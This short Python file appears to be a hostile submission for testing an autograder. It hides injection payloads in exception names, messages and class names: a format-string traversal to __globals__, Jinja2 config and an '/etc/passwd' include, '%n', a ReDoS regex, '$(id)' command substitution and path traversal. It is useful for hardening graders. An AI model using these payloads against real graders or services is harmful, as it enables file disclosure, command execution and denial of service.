"""Names that are patterns, templates and paths.

A grader that puts a student's text into a regular expression, a template, a format string or a path has it obeyed there: the
pattern tries 2⁶⁰ ways, the template reads the configuration, the format string an attribute, the path a file.
"""
# seen: (a+)+$
# answers: noise

# %% attack
TEMPLATES = "{0.__class__.__init__.__globals__}%s%n{{ config }}{% include '/etc/passwd' %}"
PATTERN = f"(a+)+$|[[:(?P<x>{TEMPLATES}$(id)`id`../../../etc/passwd"


class Odd(Exception):
    __slots__ = ()


Odd.__name__ = Odd.__qualname__ = PATTERN


def square_sum(x):
    raise Odd("a" * 60 + "! " + PATTERN)


class Codec:
    def encode(self, x):
        return type(PATTERN, (), {})()

    def decode(self, t):
        print(PATTERN)
        return {PATTERN: {PATTERN: t}}


def mischief():
    pass
